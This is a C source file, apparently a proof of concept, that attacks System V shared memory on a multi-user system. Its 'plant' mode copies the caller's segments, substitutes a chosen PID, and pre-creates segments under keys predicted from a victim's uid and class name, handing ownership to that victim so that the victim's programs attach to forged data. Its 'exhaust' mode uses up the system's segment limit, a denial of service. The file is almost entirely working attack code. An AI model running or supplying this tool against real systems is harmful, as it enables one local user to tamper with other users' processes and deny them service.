/* What another user can do with System V segments.
 *
 * plant OWNER NAME FROM-PID TO-PID: copies each of the caller's segments of a class's size, puts TO-PID in the place
 * of FROM-PID wherever it stands, and gives the copy to OWNER; once without a key, and once under each key that
 * early versions computed for OWNER's class NAME. Prints the copies' numbers.
 *
 * plant exhaust COUNT: makes segments of one byte until COUNT are there or the system has no more; prints how many.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <unistd.h>

static key_t computed(uint32_t user, const char *name, uint32_t attempt)
{
    uint64_t hash = 0xcbf29ce484222325u;
    const unsigned char *parts[3] = { (void *)&user, (void *)name, (void *)&attempt };
    size_t lengths[3] = { 4, strlen(name), 4 };
    for (int part = 0; part < 3; part++)
        for (size_t at = 0; at < lengths[part]; at++)
            hash = (hash ^ parts[part][at]) * 0x100000001b3u;
    return (key_t)((hash >> 33) | 1);
}

static void plant(key_t key, const uint32_t *from, size_t size, uint32_t owner, uint32_t old, uint32_t new)
{
    int id = shmget(key, size, IPC_CREAT | IPC_EXCL | 0600);
    if (id < 0)
        return;
    uint32_t *to = shmat(id, NULL, 0);
    if (to == (void *)-1)
        return;
    for (size_t at = 0; at < size / 4; at++)
        to[at] = from[at] == old ? new : from[at];
    struct shmid_ds facts;
    shmctl(id, IPC_STAT, &facts);
    facts.shm_perm.uid = owner;
    if (shmctl(id, IPC_SET, &facts) == 0)
        printf("%d\n", id);
}

int main(int count, char **words)
{
    if (count == 3 && strcmp(words[1], "exhaust") == 0) {
        int made = 0, most = atoi(words[2]);
        while (made < most && shmget(IPC_PRIVATE, 1, 0600) >= 0)
            made++;
        printf("%d\n", made);
        return 0;
    }
    uint32_t owner = strtoul(words[1], NULL, 10);
    uint32_t old = strtoul(words[3], NULL, 10), new = strtoul(words[4], NULL, 10);
    FILE *list = fopen("/proc/sysvipc/shm", "r");
    char line[512];
    int ids[64], found = 0;
    size_t sizes[64];
    while (list && found < 64 && fgets(line, sizeof line, list)) {
        unsigned creator;
        if (sscanf(line, "%*d %d %*o %zu %*d %*d %*u %*u %*u %u", &ids[found], &sizes[found], &creator) == 3
            && creator == geteuid() && sizes[found] >= 1 << 20)
            found++;
    }
    for (int one = 0; one < found; one++) {
        size_t size = sizes[one];
        uint32_t *from = shmat(ids[one], NULL, 0);
        if (from == (void *)-1)
            continue;
        plant(IPC_PRIVATE, from, size, owner, old, new);
        for (uint32_t attempt = 0; attempt < 16; attempt++)
            plant(computed(owner, words[2], attempt), from, size, owner, old, new);
    }
    return 0;
}
